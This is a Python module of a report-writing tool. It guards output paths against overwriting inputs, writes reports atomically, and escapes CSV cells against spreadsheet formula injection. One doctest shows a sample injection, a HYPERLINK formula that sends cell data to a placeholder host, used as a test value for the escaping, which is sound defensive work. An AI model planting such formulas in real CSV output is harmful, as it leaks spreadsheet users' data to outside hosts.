"""Writing reports: the output-path guard, atomic writes, and the CSV formula rule.

**One guard for every command** (:func:`check_output`): an output path must not be a
directory, its directory must exist, and it must not be the same file as any input, compared
by device and inode (``os.path.samefile``), so a hard link or a symbolic link to an input is
refused as surely as the input's own name.

**Atomic writes** (:func:`write_atomic`, :func:`write_all`): each report is written to a
temporary file in the same directory, flushed to disk (``fsync``) and renamed over the old
one (``os.replace``). A failure (a full disk, a signal, an error while rendering) removes the
temporary file and leaves the previous report as it was; the error is an
:class:`OutputError` (one line, exit 2). :func:`write_all` renders every report of a run
first and renames only when all of them are on disk: the reports of one run are all there or
none is. An output that is not a regular file (``/dev/null``, ``/dev/stdout``, a pipe)
cannot be renamed over: it is written directly, and a failure is still one line.

**CSV formula rule** (:func:`escape_formulas`): a spreadsheet opening a CSV evaluates a cell
that starts with ``=``, ``+``, ``-``, ``@`` (or TAB/CR before one) as a formula. The CSVs
bitext writes (alignment, findings) prefix such a text cell with ``'``, as OWASP recommends,
unless it is a plain number (``-5``, ``+3,5``); ``--raw-csv`` writes the text unchanged.

>>> import tempfile, os
>>> path = os.path.join(tempfile.mkdtemp(), "report.json")
>>> write_atomic(path, "{}")
>>> open(path).read(), [f for f in os.listdir(os.path.dirname(path))]
('{}', ['report.json'])
>>> escape_formulas(["=1+2", "-5", "- item", "@SUM(A1)", "text"])
["'=1+2", '-5', "'- item", "'@SUM(A1)", 'text']
"""

from __future__ import annotations

import os
import re
import secrets
import stat
from pathlib import Path
from typing import Callable, Iterable, Sequence, Union

from ..errors import BitextError, UsageError

PathLike = Union[str, "os.PathLike[str]"]
Content = Union[str, bytes]


class OutputError(BitextError):
    """A report could not be written; the previous file at that path is unchanged."""


def check_output(path: PathLike, inputs: Sequence[PathLike]) -> None:
    """Refuse an output path that is a directory, lies in a missing directory, or is the same
    file as one of ``inputs`` (also through a hard or symbolic link). ``"-"`` (standard
    output) is always allowed.

    >>> check_output("-", ["a.txt"])
    >>> check_output("data", [])
    Traceback (most recent call last):
    bitext.errors.UsageError: data: is a directory
    """
    if str(path) == "-":
        return
    out = Path(path)
    if out.is_dir():
        raise UsageError(f"{path}: is a directory")
    parent = out.resolve().parent if out.is_symlink() or out.exists() else out.parent
    if not (parent if str(parent) else Path(".")).is_dir():
        raise UsageError(f"{path}: directory {out.parent} does not exist")
    if not out.exists():
        return
    for src in inputs:
        try:
            same = os.path.samefile(out, src)
        except OSError:  # the input does not exist: the reader says so
            continue
        if same:
            link = "" if os.path.abspath(out) == os.path.abspath(src) else f" (it is the same file as {src})"
            raise UsageError(f"{path}: refusing to overwrite an input file{link}")


def _target(path: PathLike) -> Path:
    """Where the bytes go: through a symbolic link to the file it names (so the link stays)."""
    out = Path(path)
    return Path(os.path.realpath(out)) if out.is_symlink() else out


def _reason(exc: OSError) -> str:
    return exc.strerror or str(exc) or type(exc).__name__


def _is_regular(path: Path) -> bool:
    try:
        return stat.S_ISREG(path.stat().st_mode)
    except FileNotFoundError:
        return True  # a new file
    except OSError:
        return True


def _write_direct(path: Path, data: bytes, shown: PathLike) -> None:
    """A device or a pipe: written in place (it cannot be renamed over)."""
    try:
        with open(path, "wb") as f:
            f.write(data)
            f.flush()
    except OSError as exc:
        raise OutputError(f"{shown}: cannot write ({_reason(exc)})") from None


def _temp_for(path: Path, data: bytes, shown: PathLike) -> Path:
    """``data`` in a new temporary file beside ``path``, flushed to disk."""
    temp = path.with_name(f".{path.name}.{secrets.token_hex(4)}.tmp")
    try:
        # 0o666 before the umask, like any new file (mkstemp would make it private).
        fd = os.open(temp, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o666)
    except OSError as exc:
        raise OutputError(f"{shown}: cannot write ({_reason(exc)})") from None
    try:
        with os.fdopen(fd, "wb") as f:
            f.write(data)
            f.flush()
            os.fsync(f.fileno())
        try:
            os.chmod(temp, stat.S_IMODE(path.stat().st_mode))  # an overwritten report keeps its mode
        except FileNotFoundError:
            pass
    except BaseException as exc:
        _remove(temp)
        if isinstance(exc, OSError):
            raise OutputError(f"{shown}: cannot write ({_reason(exc)}); the previous file is unchanged") from None
        raise
    return temp


def _remove(temp: Path) -> None:
    try:
        temp.unlink()
    except OSError:
        pass


def _bytes(content: Content) -> bytes:
    return content.encode("utf-8") if isinstance(content, str) else content


def write_atomic(path: PathLike, content: Content) -> None:
    """Write ``content`` (text as UTF-8, or bytes) to ``path`` atomically: a reader of
    ``path`` sees the old file or the new one, never a part; on failure the old file stays
    and an :class:`OutputError` says why."""
    write_all([(path, content)])


def write_all(outputs: Iterable[tuple[PathLike, Union[Content, Callable[[], Content]]]]) -> None:
    """Write several reports all-or-nothing: each content (or a function rendering it) is
    rendered and written to a temporary file first; only when all are on disk are they
    renamed into place. If anything fails before that, no report is touched."""
    staged: list[tuple[Path, Path]] = []
    direct: list[tuple[Path, bytes, PathLike]] = []
    try:
        for shown, content in outputs:
            data = _bytes(content() if callable(content) else content)
            if _is_regular(Path(shown)):
                path = _target(shown)
                staged.append((_temp_for(path, data, shown), path))
            else:
                direct.append((Path(shown), data, shown))
        for temp, path in staged:
            try:
                os.replace(temp, path)
            except OSError as exc:
                raise OutputError(f"{path}: cannot write ({_reason(exc)})") from None
        staged.clear()
    finally:
        for temp, _ in staged:
            _remove(temp)
    for path, data, shown in direct:
        _write_direct(path, data, shown)


# A spreadsheet evaluates a cell starting with one of these (after TAB/CR) as a formula.
_FORMULA_START = re.compile(r"^[\t\r]*[=+\-@]")
_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?(?:[eE][+-]?\d+)?$")


def escape_formula(text: str) -> str:
    """``text`` made safe for a spreadsheet: prefixed with ``'`` when it would start a
    formula (a plain number stays as it is).

    >>> escape_formula('=HYPERLINK("http://x?"&A1)'), escape_formula("+358 40"), escape_formula("\\t=1")
    ('\\'=HYPERLINK("http://x?"&A1)', "'+358 40", "'\\t=1")
    """
    if _FORMULA_START.match(text) and not _NUMBER.match(text):
        return "'" + text
    return text


def escape_formulas(values: Iterable[object]) -> list[object]:
    """:func:`escape_formula` on each text value; other values unchanged."""
    return [escape_formula(v) if isinstance(v, str) else v for v in values]


def frame_csv(frame, raw: bool = False) -> str:  # type: ignore[no-untyped-def]
    """A DataFrame as CSV text, its text cells escaped for spreadsheets unless ``raw``."""
    if not raw and not frame.empty:
        import pandas as pd

        frame = frame.copy()
        for col in frame.columns:
            if not pd.api.types.is_numeric_dtype(frame[col]):
                frame[col] = pd.Series(escape_formulas(frame[col].tolist()), index=frame.index, dtype=object)
    return frame.to_csv(index=False)
